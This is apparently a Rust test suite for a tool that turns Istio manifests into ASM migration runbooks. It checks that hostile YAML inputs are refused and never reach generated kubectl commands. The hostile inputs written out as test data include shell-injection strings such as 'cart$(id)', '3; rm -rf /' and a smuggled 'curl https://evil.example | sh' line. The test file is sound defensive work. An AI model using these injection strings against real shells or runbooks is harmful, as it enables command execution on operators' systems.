//! Hostile inputs (`tests/fixtures/hostile/`, plus a few generated here because they are too big
//! to commit): each gives a finding, or a clear settings error, within bounded time and memory;
//! none panics; none reaches a command.
//!
//! Every run goes through `analyze`, both check reports, the plan with and without `--force` and
//! its three renderings. Every command of every finding and step must split, by a POSIX shell's
//! rules, into exactly its argv with the kubeconfig variable as its only expansion (the splitter
//! is the fuzz targets', `fuzz/src/lib.rs`), and in the Markdown runbook every line of a bash
//! block must be one of the plan's commands.
//!
//! The tests named `gap_*` pin behaviour that contradicts a promise of docs/security.md and was
//! reported to the core's owner; each says what the fixed behaviour should be. When core is
//! fixed, such a test fails: replace it with the strict assertion it describes.

// Core's clippy.toml forbids files, clock, environment, processes and printing in the library,
// which must stay pure. These tests read their fixtures, time each run, and re-run this test
// binary as a child process to read its peak memory, so they need exactly those doors.
#![allow(clippy::disallowed_methods, clippy::disallowed_macros)]

#[allow(dead_code)]
#[path = "../../../fuzz/src/lib.rs"]
mod harness;

mod common;

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use common::{fixture_input, nesting, repo_fixtures};
use istio2asm_core::kubectl::{Command, KubeconfigVars};
use istio2asm_core::plan::Plan;
use istio2asm_core::{analyze, plan, render, report, Analysis, Code, Input, Limits, Settings};

/// What any hostile input may cost at most, in a debug build on a busy two-core machine. Real
/// runs take milliseconds; this bound catches a blow-up, not a slow machine.
const TIME_LIMIT: Duration = Duration::from_secs(10);

/// The most text all outputs of one small hostile input may add up to.
const OUTPUT_LIMIT: usize = 2 << 20;

fn fixture(name: &str) -> Input {
    fixture_input("hostile", name)
}

/// One input through every surface of the core.
struct Run {
    analysis: Analysis,
    elapsed: Duration,
    /// Every command of every finding and of both plans.
    commands: Vec<Command>,
    /// Every output a user sees, with its name.
    outputs: Vec<(String, String)>,
    plans: Vec<Plan>,
}

impl Run {
    fn codes(&self) -> Vec<Code> {
        self.analysis.findings.iter().map(|f| f.code).collect()
    }

    fn count(&self, code: Code) -> usize {
        self.codes().iter().filter(|c| **c == code).count()
    }

    fn messages(&self, code: Code) -> Vec<&str> {
        self.analysis
            .findings
            .iter()
            .filter(|f| f.code == code)
            .map(|f| f.message.as_str())
            .collect()
    }

    fn namespaces(&self) -> Vec<&str> {
        self.analysis
            .bundle
            .namespaces
            .keys()
            .map(String::as_str)
            .collect()
    }

    fn vars(&self) -> KubeconfigVars {
        self.analysis.settings.kubeconfig_vars()
    }

    /// The commands whose argv has a word containing `needle`.
    fn commands_with(&self, needle: &str) -> Vec<String> {
        let vars = self.vars();
        self.commands
            .iter()
            .filter(|c| c.argv(&vars).iter().any(|w| w.contains(needle)))
            .map(|c| c.render(&vars))
            .collect()
    }

    fn assert_no_command_with(&self, needle: &str) {
        let found = self.commands_with(needle);
        assert!(found.is_empty(), "{needle:?} reached commands: {found:#?}");
    }

    fn output(&self, name: &str) -> &str {
        self.outputs
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, text)| text.as_str())
            .unwrap_or_else(|| panic!("no output {name}"))
    }

    /// Lines of the Markdown runbooks' bash blocks that are not one of the plan's commands.
    fn foreign_bash_lines(&self) -> Vec<String> {
        let vars = self.vars();
        let known: BTreeSet<String> = self.commands.iter().map(|c| c.render(&vars)).collect();
        self.outputs
            .iter()
            .filter(|(name, _)| name.starts_with("runbook.md"))
            .flat_map(|(_, text)| harness::foreign_bash_lines(text, &known))
            .collect()
    }
}

fn run(inputs: Vec<Input>) -> Run {
    run_with(inputs, Vec::new(), &Settings::default())
}

fn run_file(name: &str) -> Run {
    run(vec![fixture(name)])
}

fn run_with(inputs: Vec<Input>, asm: Vec<Input>, settings: &Settings) -> Run {
    let started = Instant::now();
    let analysis = analyze(inputs, asm, settings);
    let vars = analysis.settings.kubeconfig_vars();
    let mut outputs = vec![
        (
            "check.txt".to_string(),
            report::check_text(&analysis, false),
        ),
        (
            "check-color.txt".to_string(),
            report::check_text(&analysis, true),
        ),
        ("check.json".to_string(), report::check_json(&analysis)),
    ];
    let mut commands: Vec<Command> = analysis
        .findings
        .iter()
        .flat_map(|f| f.commands.iter().cloned())
        .collect();
    let mut plans = Vec::new();
    for force in [false, true] {
        let plan = plan::plan(&analysis, force);
        commands.extend(plan.commands().cloned());
        outputs.push((
            format!("runbook.md (force {force})"),
            render::markdown(&plan),
        ));
        outputs.push((format!("runbook.sh (force {force})"), render::shell(&plan)));
        outputs.push((format!("plan.json (force {force})"), render::json(&plan)));
        for file in plan.files() {
            outputs.push((file.name.clone(), file.content.clone()));
        }
        plans.push(plan);
    }
    let elapsed = started.elapsed();
    for command in &commands {
        harness::check_command(command, &vars);
    }
    let total: usize = outputs.iter().map(|(_, text)| text.len()).sum();
    assert!(total < OUTPUT_LIMIT, "{total} bytes of output");
    assert!(elapsed < TIME_LIMIT, "took {elapsed:?}");
    Run {
        analysis,
        elapsed,
        commands,
        outputs,
        plans,
    }
}

// ---------------------------------------------------------------------------------------------
// Resource limits
// ---------------------------------------------------------------------------------------------

#[test]
fn alias_bombs_are_refused_unexpanded() {
    for name in ["alias-bomb.yaml", "alias-bomb-in-object.yaml"] {
        let run = run_file(name);
        assert_eq!(run.count(Code::Mig005), 1, "{name}: {:?}", run.codes());
        assert!(
            run.messages(Code::Mig005)[0].contains("repetition limit"),
            "{name}: {:?}",
            run.messages(Code::Mig005)
        );
        assert_eq!(run.analysis.bundle.object_count(), 0, "{name}");
        run.assert_no_command_with("lol");
    }
}

/// 10,000 levels as committed fixtures (flow sequences, compact block sequences `- - -`, JSON
/// objects) and a block mapping indented one space per level (generated: it is 50 MB).
#[test]
fn deep_nesting_is_refused_at_max_depth() {
    let mut block_map = String::with_capacity(50_100_000);
    for level in 0..10_000 {
        block_map.push_str(&" ".repeat(level));
        block_map.push_str("k:\n");
    }
    block_map.push_str(&" ".repeat(10_000));
    block_map.push_str("v\n");
    let inputs = [
        fixture("nesting-flow.yaml"),
        fixture("nesting-block.yaml"),
        fixture("nesting-json.json"),
        Input::new("nesting-block-map.yaml", block_map),
    ];
    for input in inputs {
        assert_refused_for_depth(input);
    }
}

/// Every form of `common::nesting` at 10^4, 10^5 and 10^6 levels (up to 6 MB, generated): flow
/// sequences and mappings, block sequences and mappings, JSON arrays and objects, and a pod
/// whose pruned `status` nests (which loaded silently before the depth pre-pass). libyaml's
/// scanner takes time that grows with the square of the flow nesting; each of these is refused
/// before it gets there.
#[test]
fn deep_nesting_is_refused_at_max_depth_at_every_size() {
    for levels in nesting::LEVELS {
        for form in nesting::FORMS {
            assert_refused_for_depth(Input::new(form.file, form.text(levels)));
        }
    }
}

/// What a document too deep gives: one MIG005 naming the depth and the setting, no syntax
/// error, and nothing loaded.
fn assert_refused_for_depth(input: Input) {
    let name = format!("{} ({} bytes)", input.name, input.bytes.len());
    let run = run(vec![input]);
    assert_eq!(run.count(Code::Mig005), 1, "{name}: {:?}", run.codes());
    assert_eq!(run.count(Code::Mig001), 0, "{name}: {:?}", run.codes());
    let message = run.messages(Code::Mig005)[0];
    assert_eq!(
        message, "document not loaded: nesting deeper than 100 levels (setting max-depth)",
        "{name}"
    );
    assert_eq!(run.analysis.bundle.object_count(), 0, "{name}");
}

const HUGE: usize = 300 << 20;
const CHILD: &str = "ISTIO2ASM_HOSTILE_CHILD";

/// The wasm default of `max-file-bytes` (the native default is 1 GiB, too big to build here).
fn wasm_limits() -> Settings {
    let mut settings = Settings::default();
    settings.limits.max_file_bytes = 256 << 20;
    settings
}

/// A 300 MB single line (made here, never committed) is refused by size before it is decoded
/// or parsed, in well under a second.
#[test]
fn huge_single_line_is_refused_quickly() {
    let line = vec![b'a'; HUGE];
    let started = Instant::now();
    let analysis = analyze(
        vec![Input::new("huge.yaml", line)],
        Vec::new(),
        &wasm_limits(),
    );
    let elapsed = started.elapsed();
    assert!(elapsed < Duration::from_secs(3), "took {elapsed:?}");
    let limit: Vec<&str> = analysis
        .findings
        .iter()
        .filter(|f| f.code == Code::Mig005)
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(limit.len(), 1, "{:?}", analysis.findings);
    assert!(limit[0].contains("256 MiB"), "{}", limit[0]);
    assert!(limit[0].contains(&HUGE.to_string()), "{}", limit[0]);
    assert_eq!(analysis.sources.files()[0].text(), "");
}

/// The same input, measured: this test re-runs itself in a child process (one test, one thread)
/// and reads the child's peak resident memory from /proc. The child holds the 300 MB input once;
/// refusing it must not copy it.
#[test]
fn huge_single_line_memory_stays_bounded() {
    if std::env::var_os(CHILD).is_some() {
        let analysis = analyze(
            vec![Input::new("huge.yaml", vec![b'a'; HUGE])],
            Vec::new(),
            &wasm_limits(),
        );
        assert!(analysis.findings.iter().any(|f| f.code == Code::Mig005));
        let status = std::fs::read_to_string("/proc/self/status").expect("/proc/self/status");
        let peak = status
            .lines()
            .find(|l| l.starts_with("VmHWM:"))
            .expect("VmHWM in /proc/self/status");
        println!("child-peak {peak}");
        return;
    }
    let exe = std::env::current_exe().expect("the test binary");
    let output = std::process::Command::new(exe)
        .args([
            "--exact",
            "huge_single_line_memory_stays_bounded",
            "--nocapture",
            "--test-threads=1",
        ])
        .env(CHILD, "1")
        .output()
        .expect("the child test runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "child failed: {stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let kb: usize = stdout
        .lines()
        .find_map(|l| l.split_once("child-peak VmHWM:").map(|(_, v)| v))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or_else(|| panic!("no peak in {stdout}"));
    let peak = kb * 1024;
    assert!(
        peak < HUGE + (64 << 20),
        "peak {} MiB for a {} MiB input",
        peak >> 20,
        HUGE >> 20
    );
}

/// Every limit is a setting with a message naming it.
#[test]
fn limits_are_settings_named_in_their_findings() {
    let doc = "apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: b}\n";
    let cases = [
        (
            Limits {
                max_file_bytes: 10,
                ..Limits::default()
            },
            "max-file-bytes",
        ),
        (
            Limits {
                max_total_bytes: doc.len() + 10,
                ..Limits::default()
            },
            "max-total-bytes",
        ),
        (
            Limits {
                max_documents: 3,
                ..Limits::default()
            },
            "max-documents",
        ),
        (
            Limits {
                max_depth: 1,
                ..Limits::default()
            },
            "max-depth",
        ),
    ];
    for (limits, setting) in cases {
        let settings = Settings {
            limits,
            ..Settings::default()
        };
        let run = run_with(
            vec![Input::new("one.yaml", doc), Input::new("two.yaml", doc)],
            Vec::new(),
            &settings,
        );
        let limited = run.messages(Code::Mig005);
        let helps: Vec<String> = run
            .analysis
            .findings
            .iter()
            .filter(|f| f.code == Code::Mig005)
            .map(|f| {
                format!(
                    "{} {}",
                    f.message,
                    f.help_text(istio2asm_core::i18n::Lang::En)
                )
            })
            .collect();
        assert!(!limited.is_empty(), "{setting}: {:?}", run.codes());
        assert!(
            helps.iter().all(|h| h.contains(setting)),
            "{setting}: {helps:?}"
        );
        assert!(run.analysis.bundle.object_count() <= 3, "{setting}");
    }
}

// ---------------------------------------------------------------------------------------------
// Broken text
// ---------------------------------------------------------------------------------------------

#[test]
fn invalid_utf8_refuses_only_its_document() {
    let run = run_file("invalid-utf8.yaml");
    assert_eq!(run.count(Code::Mig001), 1, "{:?}", run.codes());
    assert!(run.messages(Code::Mig001)[0].contains("invalid UTF-8"));
    assert_eq!(run.namespaces(), ["after", "before"]);
    run.assert_no_command_with("caf");
}

#[test]
fn nul_bytes_are_refused() {
    // A raw NUL is not allowed in YAML text: the document does not parse.
    let run = run_file("nul-byte.yaml");
    assert_eq!(run.count(Code::Mig001), 1, "{:?}", run.codes());
    assert_eq!(run.namespaces(), ["after"]);
    // An escaped NUL parses, and the name breaks Kubernetes' rules.
    let run = run_file("nul-escape.yaml");
    assert_eq!(run.count(Code::Mig006), 1, "{:?}", run.codes());
    assert!(run.namespaces().is_empty());
    run.assert_no_command_with("\0");
    run.assert_no_command_with("shop");
}

#[test]
fn duplicate_keys_refuse_their_document() {
    for name in ["duplicate-keys.yaml", "duplicate-keys.json"] {
        let run = run_file(name);
        let refused = run.messages(Code::Mig001);
        assert!(!refused.is_empty(), "{name}: {:?}", run.codes());
        assert!(
            refused.iter().all(|m| m.contains("duplicate key")),
            "{name}: {refused:?}"
        );
        assert_eq!(run.namespaces(), ["after"], "{name}");
        run.assert_no_command_with("shop");
        run.assert_no_command_with("other");
    }
    assert_eq!(run_file("duplicate-keys.yaml").count(Code::Mig001), 2);
}

// ---------------------------------------------------------------------------------------------
// The migration resource
// ---------------------------------------------------------------------------------------------

#[test]
fn retry_counters_out_of_range_are_mig105() {
    for (name, shown) in [
        ("retry-counter-int32-overflow.yaml", "2147483648"),
        ("retry-counter-i64-overflow.yaml", "9223372036854775808"),
        ("retry-counter-beyond-i128.yaml", "99999999999999999999"),
        ("retry-counter-negative.yaml", "-1"),
        ("retry-counter-float.yaml", "1.0e+400"),
        ("retry-counter-string.yaml", "3; rm -rf /"),
    ] {
        let run = run_file(name);
        let invalid = run.messages(Code::Mig105);
        assert_eq!(invalid.len(), 1, "{name}: {:?}", run.codes());
        assert!(invalid[0].contains(shown), "{name}: {}", invalid[0]);
        run.assert_no_command_with(shown);
        // The only retry patch offered resets the counter.
        for command in run.commands_with("retryCounter") {
            assert!(
                command.contains(r#"{"spec":{"retryCounter":0}}"#),
                "{name}: {command}"
            );
        }
    }
}

#[test]
fn retry_at_the_int32_maximum_wraps_to_zero() {
    let run = run_file("retry-counter-max-failed.yaml");
    assert_eq!(run.count(Code::Mig106), 1, "{:?}", run.codes());
    assert_eq!(run.count(Code::Mig105), 0, "{:?}", run.codes());
    let retries = run.commands_with("retryCounter");
    assert!(!retries.is_empty());
    assert!(retries.iter().all(|c| c.contains(r#"{"retryCounter":0}"#)));
    run.assert_no_command_with("2147483648");
}

#[test]
fn desired_state_must_match_exactly() {
    for name in [
        "desired-state-lowercase.yaml",
        "desired-state-uppercase.yaml",
        "desired-state-spaces.yaml",
    ] {
        let run = run_file(name);
        let invalid = run.messages(Code::Mig103);
        assert_eq!(invalid.len(), 1, "{name}: {:?}", run.codes());
        assert!(
            invalid[0].contains("did you mean SetupIstioForMigrate?"),
            "{name}: {}",
            invalid[0]
        );
        // The findings offer only the patch that restores a valid state, and the plan's switch
        // is blocked unless forced.
        let offered: Vec<String> = run
            .analysis
            .findings
            .iter()
            .flat_map(|f| &f.commands)
            .map(|c| c.render(&run.vars()))
            .filter(|c| c.contains("desiredState"))
            .collect();
        assert_eq!(
            offered,
            [
                r#"kubectl --kubeconfig="${ASM_KUBECONFIG}" patch asmmigratefromistio.v1beta1.istio.alibabacloud.com default --type=merge -p '{"spec":{"desiredState":"Init"}}'"#
            ],
            "{name}"
        );
        assert!(run.plans[0]
            .phases
            .iter()
            .flat_map(|p| &p.steps)
            .filter(|s| s.id.starts_with("switch-"))
            .all(|s| !s.blocked_by.is_empty()));
    }
    let run = run_file("desired-state-inner-space.yaml");
    assert_eq!(run.count(Code::Mig103), 1, "{:?}", run.codes());
    let run = run_file("desired-state-hostile.yaml");
    assert_eq!(run.count(Code::Mig103), 1, "{:?}", run.codes());
    for needle in ["curl", "$(", "`id`"] {
        run.assert_no_command_with(needle);
    }
    // Keys in another case or with a space are unknown fields; ASM ignores them.
    let run = run_file("desired-state-key-case.yaml");
    assert_eq!(run.count(Code::Mig108), 2, "{:?}", run.codes());
    assert_eq!(run.analysis.migration.desired, None);
}

// ---------------------------------------------------------------------------------------------
// Shapes
// ---------------------------------------------------------------------------------------------

#[test]
fn objects_without_metadata_are_mig002() {
    let run = run_file("no-metadata.yaml");
    assert_eq!(run.count(Code::Mig002), 8, "{:?}", run.codes());
    assert_eq!(run.namespaces(), ["after"]);
}

#[test]
fn lists_inside_lists_are_expanded() {
    let run = run_file("list-in-list.yaml");
    assert_eq!(run.namespaces(), ["inner-one", "inner-two", "outer"]);
    // The integer, the list, and the List whose items are a string.
    assert_eq!(run.count(Code::Mig002), 3, "{:?}", run.codes());
    let run = run_file("list-in-list.json");
    assert_eq!(run.namespaces(), ["json-inner", "json-outer"]);
    assert_eq!(run.count(Code::Mig002), 2, "{:?}", run.codes());
}

// ---------------------------------------------------------------------------------------------
// Hostile names and values
// ---------------------------------------------------------------------------------------------

/// The hostile strings of `hostile-names.yaml`, by the key in each object's `hostile` label.
const HOSTILE_NAMES: [(&str, &str); 15] = [
    ("single-quote", "cart'x"),
    ("double-quote", "cart\"x"),
    ("command-substitution", "cart$(id)"),
    ("backticks", "cart`id`"),
    ("newline", "cart\nx"),
    ("semicolon", "cart;rm -rf"),
    ("cyrillic-a", "c\u{430}rt"),
    ("rtl-override", "cart\u{202e}txt.exe"),
    ("rtl-mark", "cart\u{200f}"),
    ("zero-width-space", "ca\u{200b}rt"),
    ("fullwidth", "\u{ff43}art"),
    ("ansi-escape", "cart\u{1b}[2J"),
    ("leading-dash", "--kubeconfig=/tmp/evil"),
    ("glob", "cart*"),
    ("tilde", "~root"),
];

/// Each hostile string as the name of a Namespace, Deployment, Pod, Service and VirtualService,
/// and as the namespace of a Deployment: every one is MIG006 and enters neither the model nor a
/// command. (ClusterRoles follow the looser path-segment rule, which refuses control and format
/// characters: the names with an ANSI escape, a newline, a bidi override or a zero-width space.)
#[test]
fn hostile_names_are_mig006_and_reach_no_command() {
    let run = run_file("hostile-names.yaml");
    let skipped = run.messages(Code::Mig006);
    for (key, name) in HOSTILE_NAMES {
        let expected = if matches!(
            key,
            "newline" | "ansi-escape" | "rtl-override" | "zero-width-space"
        ) {
            7
        } else {
            6
        };
        let escaped = format!("{name:?}");
        let escaped = &escaped[1..escaped.len() - 1];
        let here = skipped.iter().filter(|m| m.contains(escaped)).count();
        assert_eq!(here, expected, "{key}: {skipped:#?}");
        run.assert_no_command_with(name);
    }
    assert_eq!(run.analysis.bundle.object_count(), 0);
    assert!(run.namespaces().is_empty());
    assert!(run.analysis.bundle.workloads.is_empty());
    assert!(run.analysis.bundle.pods.is_empty());
    assert!(run.analysis.bundle.istio.is_empty());
    // Messages show the names escaped, so no control character reaches a terminal.
    let text = run.output("check.txt");
    assert!(!text.contains('\u{1b}'), "raw escape in the report");
    assert!(
        !text.contains('\u{202e}'),
        "raw bidi override in the report"
    );
    assert!(run.foreign_bash_lines().is_empty());
}

/// A kubeconfig variable name that is not a shell name is refused with a message naming the
/// setting and the rule.
#[test]
fn kubeconfig_variable_must_be_a_shell_name() {
    for bad in [
        "",
        "1X",
        "A-B",
        "X}$(id)",
        "K8S KUBECONFIG",
        "K8S_KUBECONFIG\n",
        "\u{c4}NAME",
        "X`id`",
    ] {
        for cluster in [true, false] {
            let settings = if cluster {
                Settings {
                    cluster_kubeconfig_var: bad.into(),
                    ..Settings::default()
                }
            } else {
                Settings {
                    asm_kubeconfig_var: bad.into(),
                    ..Settings::default()
                }
            };
            let error = settings
                .validate()
                .expect_err("an invalid variable name is refused");
            let setting = if cluster {
                "the cluster kubeconfig variable"
            } else {
                "the ASM kubeconfig variable"
            };
            assert!(error.starts_with(setting), "{error}");
            assert!(error.contains(&format!("{bad:?}")), "{error}");
            assert!(error.contains("is not a shell variable name"), "{error}");
        }
    }
    let good = Settings {
        cluster_kubeconfig_var: "_CLUSTER1".into(),
        asm_kubeconfig_var: "asm_kc".into(),
        ..Settings::default()
    };
    assert_eq!(good.validate(), Ok(()));
    let run = run_with(
        vec![fixture("retry-counter-max-failed.yaml")],
        Vec::new(),
        &good,
    );
    assert!(run
        .output("runbook.sh (force false)")
        .contains("${_CLUSTER1:-}"));
    assert!(run.commands_with("ASM_KUBECONFIG").is_empty());
    assert!(!run.commands_with("--kubeconfig=${asm_kc}").is_empty());
}

// ---------------------------------------------------------------------------------------------
// Gaps reported to the core's owner (see the module comment)
// ---------------------------------------------------------------------------------------------

/// GAP: names in `ownerReferences` are not checked against Kubernetes' name rules, so a valid
/// pod whose owner reference names `cart$(id)` gets `rollout restart 'deployment/cart$(id)'` and
/// a label patch of `'cart$(id)'`. The quoting holds (argv-exact, checked for every command by
/// `run`), but a hostile name reaches a command, against "every name in the model passed
/// Kubernetes' name rules". Fixed: no command contains any owner name of `hostile-values.yaml`
/// and each such pod is a finding.
#[test]
fn owner_reference_names_never_reach_a_command() {
    let run = run_file("hostile-values.yaml");
    for owner in [
        "cart$(id)",
        "cart'x",
        "c\u{430}rt",
        "cart\u{202e}exe",
        "cart\nx",
    ] {
        let found = run.commands_with(owner);
        assert!(found.is_empty(), "{owner:?} reaches a command: {found:?}");
    }
    assert!(run
        .analysis
        .findings
        .iter()
        .any(|f| f.code.as_str() == "MIG006" && f.message.contains("its owner")));
}

/// GAP: the value of the `istio-injection` label on istio-system is not checked as a label
/// value; it reaches the rollback command `label namespace istio-system 'istio-injection=VALUE'`
/// (quoted), and the step's text unescaped. Fixed: a value that is not a label value is a
/// finding and the rollback uses no manifest text.
#[test]
fn invalid_label_values_never_reach_a_command() {
    let run = run_file("hostile-values.yaml");
    let found = run.commands_with("istio-injection=x'$(id)`id`\n```bash");
    assert!(
        found.is_empty(),
        "the label value reaches a command: {found:?}"
    );
}

/// GAP: label values, network names (label `topology.istio.io/network`, env
/// `ISTIO_META_NETWORK`) and the label value inside the rollback command are written into the
/// Markdown runbook as they are. A value holding a newline and a ```bash fence therefore shows
/// the operator a bash block with `curl https://evil.example | sh` that is no command of the
/// plan, and a multi-line quoted word breaks its own code block. The shell runbook and the JSON
/// are not affected (every word quoted, JSON escaped). Fixed: `foreign_bash_lines()` is empty
/// for `hostile-values.yaml`.
#[test]
fn the_markdown_runbook_shows_no_foreign_bash_lines() {
    let run = run_file("hostile-values.yaml");
    let foreign = run.foreign_bash_lines();
    assert!(foreign.is_empty(), "{foreign:#?}");
    for (name, text) in &run.outputs {
        if name.starts_with("runbook") {
            assert!(
                !text
                    .lines()
                    .any(|l| l.trim().starts_with("curl https://evil.example")),
                "{name}"
            );
        }
    }
}

/// The istio-system label the plan removes holds a newline, backticks and a ```bash fence; its
/// patch preview shows that old value. It stays one JSON-escaped line: inside a Markdown block
/// whose fence is longer than any backtick run in it, and in a bash comment.
#[test]
fn a_hostile_value_in_a_patch_preview_stays_one_escaped_line() {
    let run = run_file("hostile-values.yaml");
    let removed = r#"- metadata.labels.istio-injection: "x'$(id)`id`\n```bash\ncurl https://evil.example | sh\n```""#;
    for (name, text) in &run.outputs {
        if name.starts_with("runbook.md") {
            let lines: Vec<&str> = text.lines().collect();
            let at = lines
                .iter()
                .position(|l| *l == removed)
                .unwrap_or_else(|| panic!("{name}: no preview line {removed}"));
            assert_eq!(lines[at - 2], "````diff", "{name}");
            assert_eq!(lines[at + 1], "````", "{name}");
        }
        if name.starts_with("runbook.sh") {
            assert!(
                text.lines().any(|l| l == format!("  #   {removed}")),
                "{name}: the preview is one comment line"
            );
        }
    }
}

/// `status.message` of the migration resource could carry terminal escape sequences (here: set
/// the window title, clear the screen) and fake report lines. The text report writes every
/// control and bidi character of input text as a `\u{..}` escape; JSON escapes them its way.
#[test]
fn status_message_control_characters_never_reach_the_text_report() {
    let run = run_file("hostile-values.yaml");
    for name in ["check.txt", "check.json"] {
        let text = run.output(name);
        assert!(
            !text.contains(['\u{1b}', '\u{7}', '\r', '\u{202e}']),
            "{name}: {text}"
        );
    }
    assert!(
        run.output("check.txt")
            .contains("\\u{1b}]0;owned\\u{7}\\u{1b}[2J"),
        "the escape is shown, not dropped"
    );
}

/// RBAC names follow the path-segment rule, which Kubernetes lets hold Unicode format
/// characters: a ClusterRole named with a right-to-left override or a zero-width space would
/// reach `kubectl delete clusterrole` (quoted) in the Finished phase, where the override
/// reverses how the runbook line reads. Such names are MIG006 and reach no command.
#[test]
fn bidi_and_zero_width_names_never_reach_a_command() {
    let names = run_file("hostile-names.yaml");
    let kept: Vec<&str> = names
        .analysis
        .bundle
        .residues
        .iter()
        .map(|r| r.name())
        .collect();
    assert!(kept.is_empty(), "{kept:?}");
    let role = "apiVersion: istio.alibabacloud.com/v1beta1\nkind: ASMMigrateFromIstio\nmetadata: {name: default}\nspec: {desiredState: Migrating}\nstatus: {state: Migrating}\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: \"istiod-\\u202Eexe.txt\"\n  labels: {app: istiod}\n";
    let role_run = run(vec![Input::new("role.yaml", role)]);
    assert!(role_run.commands_with("istiod-\u{202e}exe.txt").is_empty());
    assert!(role_run
        .messages(Code::Mig006)
        .iter()
        .any(|m| m.contains("istiod-")));
}

/// GAP: the ingress step writes its two YAML files (`...-service-patch.yaml`, `...-istiogateway.yaml`)
/// with `format!`, pasting the Service's CLB id annotation and its port names and target ports
/// into the text unescaped. An annotation value (which Kubernetes accepts with quotes and
/// newlines) or a port name can therefore add keys to YAML the operator applies to ASM: here
/// `evil.example/injected: "yes"` among the annotations and `nodePort: 30022` on the port.
/// Fixed: both files are serialised from values, and the CLB id reads back unchanged.
#[test]
fn ingress_files_take_no_manifest_text_they_cannot_hold() {
    let run = run_file("hostile-ingress-annotations.yaml");
    let file = |suffix: &str| {
        run.plans[0]
            .files()
            .find(|f| f.name.ends_with(suffix))
            .unwrap_or_else(|| panic!("no file *{suffix}"))
            .content
            .clone()
    };
    let gateway: serde_yaml::Value =
        serde_yaml::from_str(&file("-istiogateway.yaml")).expect("the IstioGateway parses");
    let annotations = &gateway["spec"]["serviceAnnotations"];
    let lb_id = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-id";
    // A CLB id that is not one is treated as unknown: a placeholder and a need, never pasted.
    assert_eq!(annotations[lb_id].as_str(), Some("REPLACE-WITH-CLB-ID"));
    assert!(annotations.get("evil.example/injected").is_none());
    assert!(gateway["spec"]["ports"][0].get("nodePort").is_none());
    let patch: serde_yaml::Value =
        serde_yaml::from_str(&file("-service-patch.yaml")).expect("the patch parses");
    assert!(patch["metadata"]["annotations"]
        .get("evil.example/injected")
        .is_none());
}

/// `render` writes the kubeconfig variable names inside `"${...}"`, and `analyze` does not call
/// `Settings::validate`: a library caller that skipped it could have had
/// `--kubeconfig="${X}$(id)${Y}"`. `KubeconfigVars` holds only shell names; a settings value that
/// is not one falls back to the defaults.
#[test]
fn render_expands_only_shell_names() {
    let settings = Settings {
        cluster_kubeconfig_var: "X}$(id)${Y".into(),
        ..Settings::default()
    };
    assert!(settings.validate().is_err());
    assert!(KubeconfigVars::new("X}$(id)${Y", "ASM_KUBECONFIG").is_err());
    let run = analyze(
        vec![fixture("retry-counter-max-failed.yaml")],
        Vec::new(),
        &settings,
    );
    let text = report::check_text(&run, false);
    assert!(!text.contains("$(id)"), "{text}");
    assert!(
        text.contains(r#"--kubeconfig="${ASM_KUBECONFIG}""#),
        "{text}"
    );
}

#[test]
fn every_hostile_fixture_is_covered() {
    let dir = repo_fixtures().join("hostile");
    let source = include_str!("hostile.rs");
    let mut missing = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("the hostile fixtures") {
        let name = entry.expect("an entry").file_name();
        let name = name.to_string_lossy();
        if !source.contains(&format!("\"{name}\"")) {
            missing.push(name.to_string());
        }
    }
    assert!(missing.is_empty(), "no test asserts on {missing:?}");
}

#[test]
fn runs_stay_fast() {
    // A run over every committed hostile fixture at once, to bound the whole, not only each.
    let dir = repo_fixtures().join("hostile");
    let mut inputs = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("the hostile fixtures") {
        let path = entry.expect("an entry").path();
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        inputs.push(Input::new(name, std::fs::read(&path).expect("a fixture")));
    }
    let all = run(inputs);
    assert!(all.elapsed < TIME_LIMIT);
    assert!(all.count(Code::Mig005) >= 5);
}
